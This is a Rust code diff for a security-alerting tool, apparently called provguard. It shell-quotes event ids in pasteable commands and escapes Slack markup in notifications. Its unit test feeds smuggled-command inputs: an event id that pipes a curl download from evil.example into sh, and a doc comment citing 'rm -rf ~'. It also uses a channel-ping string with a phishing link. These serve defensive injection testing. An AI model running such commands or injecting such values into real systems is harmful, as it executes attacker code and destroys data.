@@ -304,15 +304,67 @@ pub fn subject(v: &Verdict) -> String {
     s
 }
 
+/// One shell word: an event id is the sender's, so a command built with it is quoted for a
+/// POSIX shell (`provguard explain 'x; rm -rf ~'` runs nothing but provguard). NUL bytes, which
+/// no shell word can hold, are dropped.
+pub fn shell_word(s: &str) -> String {
+    let clean: std::borrow::Cow<'_, str> = if s.contains('\0') {
+        s.replace('\0', "").into()
+    } else {
+        s.into()
+    };
+    match shlex::try_quote(&clean) {
+        Ok(q) if !q.is_empty() => q.into_owned(),
+        _ => "''".to_owned(),
+    }
+}
+
+/// The command that shows an alert's whole verdict, ready to paste.
+pub fn explain_command(event_id: &str) -> String {
+    format!("provguard explain {}", shell_word(event_id))
+}
+
+/// The command that records feedback on an alert, ready to paste once the verdict is chosen.
+pub fn feedback_command(event_id: &str) -> String {
+    format!(
+        "provguard feedback {} benign|malicious",
+        shell_word(event_id)
+    )
+}
+
+/// Text from events (names, e-mails, details) made inert in Slack's markdown: `&`, `<` and `>`
+/// are escaped as Slack asks, so nothing becomes a link or a mention (`<!channel>`).
+pub fn slack_text(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// A name shown verbatim in Slack: inline code (no bold, italics or strike-through inside), with
+/// its own backticks, which would end the code span, turned into a look-alike.
+pub fn slack_name(s: &str) -> String {
+    if s.is_empty() {
+        return "`(none)`".to_owned();
+    }
+    format!("`{}`", slack_text(&s.replace('`', "\u{2035}")))
+}
+
 fn how_to_explain(v: &Verdict) -> [String; 2] {
     [
         format!(
-            "See the whole verdict and history: provguard explain {}",
-            v.event_id
+            "See the whole verdict and history: {}",
+            explain_command(&v.event_id)
         ),
         format!(
-            "Record your conclusion: provguard feedback {} benign|malicious --note \"...\"",
-            v.event_id
+            "Record your conclusion: {} --note \"...\"",
+            feedback_command(&v.event_id)
         ),
     ]
 }
@@ -410,20 +462,33 @@ fn clip(s: &str, max: usize) -> String {
 pub fn chat_notification(v: &Verdict) -> serde_json::Value {
     use std::fmt::Write as _;
     let mut d = String::new();
+    let what = match (&v.entitlement, v.privilege) {
+        (Some(e), Some(p)) => format!(" {} ({p})", slack_name(e)),
+        (Some(e), None) => format!(" {}", slack_name(e)),
+        _ => String::new(),
+    };
     let _ = writeln!(
         d,
-        "*{}* (score {}/100, source {}, tenant {}, {})",
-        headline(v),
+        "{} *{}*{what} → {} (score {}/100, source {}, tenant {}, {})",
+        slack_name(&v.actor),
+        v.action,
+        slack_name(&v.target),
         v.score,
-        v.source,
-        v.tenant,
+        slack_name(&v.source),
+        slack_name(&v.tenant),
         v.time.format("%Y-%m-%d %H:%M UTC")
     );
     for r in &v.reasons {
-        let _ = writeln!(d, "• `{}`: {}", r.code, r.detail);
+        let _ = writeln!(d, "• `{}`: {}", r.code, slack_text(&r.detail));
     }
     for c in &v.context {
-        let _ = writeln!(d, "• _{} ({})_: {}", c.kind, c.effect, c.detail);
+        let _ = writeln!(
+            d,
+            "• _{} ({})_: {}",
+            slack_text(&c.kind),
+            slack_text(&c.effect),
+            slack_text(&c.detail)
+        );
     }
     if let Some(k) = burst_count(v) {
         let _ = writeln!(d, "• part of a burst: *{k}* changes so far");
@@ -444,9 +509,9 @@ pub fn chat_notification(v: &Verdict) -> serde_json::Value {
                 "• {} `{}` {} → {} {}",
                 h.time.format("%m-%d %H:%M"),
                 h.action,
-                h.actor,
-                h.target,
-                h.entitlement.as_deref().unwrap_or("")
+                slack_name(&h.actor),
+                slack_name(&h.target),
+                h.entitlement.as_deref().map(slack_name).unwrap_or_default()
             );
         }
     }
@@ -467,9 +532,13 @@ pub fn chat_notification(v: &Verdict) -> serde_json::Value {
             "title": clip(&title, 250),
             "description": clip(&d, 7_900),
             "nextSteps": [
-                format!("Ask {} whether the change to {} was intended", v.actor, v.target),
-                format!("`provguard explain {}`", v.event_id),
-                format!("`provguard feedback {} benign|malicious`", v.event_id),
+                format!(
+                    "Ask {} whether the change to {} was intended",
+                    slack_name(&v.actor),
+                    slack_name(&v.target)
+                ),
+                slack_name(&explain_command(&v.event_id)),
+                slack_name(&feedback_command(&v.event_id)),
             ],
             "keywords": [v.severity.as_str(), v.source.as_str(), top],
         },
@@ -626,6 +695,40 @@ mod tests {
         );
         assert_eq!(n["content"]["nextSteps"].as_array().unwrap().len(), 3);
         assert_eq!(n["metadata"]["additionalContext"]["severity"], "high");
+    }
+
+    #[test]
+    fn sender_controlled_ids_and_names_cannot_run_commands_or_ping_a_channel() {
+        let mut v = alert();
+        v.event_id = "x'; curl evil.example | sh; echo '".into();
+        v.actor = "<!channel> *urgent* <https://evil.example|click>".into();
+        v.target = "bob`@acme.example".into();
+        let email = email_text(&v);
+        let line = email
+            .lines()
+            .find(|l| l.contains("provguard explain"))
+            .unwrap();
+        let cmd = line.split(": ").nth(1).unwrap();
+        // The pasted command is exactly provguard, explain and the id: one word, as given.
+        assert_eq!(
+            shlex::split(cmd).unwrap(),
+            ["provguard", "explain", v.event_id.as_str()]
+        );
+        let n = chat_notification(&v);
+        let d = n["content"]["description"].as_str().unwrap();
+        let steps = n["content"]["nextSteps"].to_string();
+        for text in [d, steps.as_str()] {
+            assert!(
+                !text.contains("<!channel>") && !text.contains("<https://"),
+                "{text}"
+            );
+            assert!(text.contains("&lt;!channel&gt;"), "{text}");
+        }
+        assert!(d.contains("`&lt;!channel&gt; *urgent* &lt;https://evil.example|click&gt;`"));
+        assert!(d.contains("`bob\u{2035}@acme.example`"), "{d}");
+        assert_eq!(shell_word("ev-1"), "ev-1");
+        assert_eq!(shell_word("a\0b c"), "'ab c'");
+        assert_eq!(shell_word(""), "''");
     }
 
     #[test]
